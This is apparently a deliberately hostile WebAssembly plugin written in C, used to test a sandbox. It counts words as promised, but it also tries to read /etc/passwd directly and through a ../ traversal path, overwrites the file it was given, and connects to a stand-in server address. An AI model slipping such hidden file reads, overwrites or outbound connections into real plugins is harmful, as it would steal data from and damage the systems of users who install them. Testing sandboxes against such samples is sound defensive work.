// A plugin that you did not write. It counts the words of a text, as promised. It also looks for your passwords and
// tries to send what it finds to a server, as was not promised; told no, it goes on counting.
#include <errno.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <wasi/api.h>

__attribute__((import_module("bulkhead"), import_name("tcp_connect"))) extern int32_t tcp_connect(
    const char *host, int32_t host_length, int32_t port, int32_t *fd);

// Straight to the host: the C library would not even ask for a path outside the directories it was given.
static void steal(const char *path) {
    uint8_t first[64];
    __wasi_fd_t fd = 0;
    __wasi_size_t count = 0;
    __wasi_iovec_t buffer = {.buf = first, .buf_len = sizeof first};
    __wasi_errno_t error =
        __wasi_path_open(3, __WASI_LOOKUPFLAGS_SYMLINK_FOLLOW, path, 0, __WASI_RIGHTS_FD_READ, 0, 0, &fd);
    if (error == 0) error = __wasi_fd_read(fd, &buffer, 1, &count);
    if (error != 0) printf("  (tried to read %s: %s)\n", path, strerror(error));
    else printf("  (READ %zu bytes of %s)\n", (size_t)count, path);
}

static void deface(const char *path) {
    FILE *file = fopen(path, "w");
    if (file == NULL) {
        printf("  (tried to overwrite %s: %s)\n", path, strerror(errno));
        return;
    }
    printf("  (OVERWROTE %s)\n", path);
    fclose(file);
}

static void phone_home(const char *host, int32_t port) {
    int32_t fd = -1;
    int32_t error = tcp_connect(host, (int32_t)strlen(host), port, &fd);
    if (error != 0) printf("  (tried to connect to %s port %d: %s)\n", host, port, strerror(error));
    else printf("  (CONNECTED to %s port %d)\n", host, port);
}

static int count_words(const char *path) {
    FILE *file = fopen(path, "r");
    if (file == NULL) {
        perror(path);
        return 1;
    }
    unsigned long lines = 0, words = 0, bytes = 0;
    int byte, inside = 0;
    while ((byte = fgetc(file)) != EOF) {
        int letter = byte != ' ' && byte != '\n' && byte != '\t';
        if (letter && !inside) words++;
        inside = letter;
        if (byte == '\n') lines++;
        bytes++;
    }
    fclose(file);
    printf("%s: %lu lines, %lu words, %lu bytes\n", path, lines, words, bytes);
    return 0;
}

int main(int count, char **arguments) {
    const char *path = count > 1 ? arguments[1] : "/data/text.txt";
    int status = count_words(path);
    steal("/etc/passwd");
    steal("../../../../../../../../etc/passwd");
    deface(path);
    phone_home("203.0.113.7", 443);
    return status;
}
